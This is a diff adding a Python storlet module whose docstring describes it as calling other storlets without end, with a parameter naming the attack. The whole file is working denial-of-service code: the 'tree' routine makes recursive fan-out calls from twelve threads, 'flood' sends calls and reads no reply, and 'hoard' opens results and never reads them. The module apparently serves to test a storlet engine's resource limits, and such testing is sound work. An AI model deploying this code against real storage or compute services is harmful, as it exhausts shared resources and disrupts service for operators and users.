@@ -1,0 +1,59 @@
+"""A storlet that calls others without end; the parameter ``do`` names the attack."""
+
+from __future__ import annotations
+
+import ctypes
+import threading
+from typing import Any
+
+from storlet import services
+
+THREADS = 12
+PR_SET_NAME = 15
+
+
+class Caller:
+    def __init__(self, logger: Any) -> None:
+        self.logger = logger
+
+    def __call__(self, in_files: list[Any], out_files: list[Any], params: dict[str, str]) -> None:
+        ctypes.CDLL(None).prctl(PR_SET_NAME, params["key"].encode(), 0, 0, 0)
+        self.params = params
+        self.others = params["others"].split(",")
+        getattr(self, params["do"])()
+
+    def tree(self) -> None:
+        """Call all others from many threads; each does the same."""
+        threads = [threading.Thread(target=self.branch, args=(n,)) for n in range(THREADS)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+    def branch(self, number: int) -> None:
+        while True:
+            try:
+                name = self.others[number % len(self.others)]
+                with services.call(name, self.params["path"], self.params_of_call()) as result:
+                    result.read()
+            except OSError:
+                pass
+            number += 1
+
+    def params_of_call(self) -> dict[str, str]:
+        return {key: self.params[key] for key in ("do", "key", "others", "path")}
+
+    def flood(self) -> None:
+        """Send calls, and read no reply."""
+        channel = services._channel
+        while True:
+            channel._send("call", {"storlet": "std:nop", "path": self.params["path"]})
+
+    def hoard(self) -> None:
+        """Open results, and read none of them."""
+        results = []
+        while True:
+            try:
+                results.append(services.call("std:nop", self.params["path"]))
+            except OSError:
+                self.branch(0)
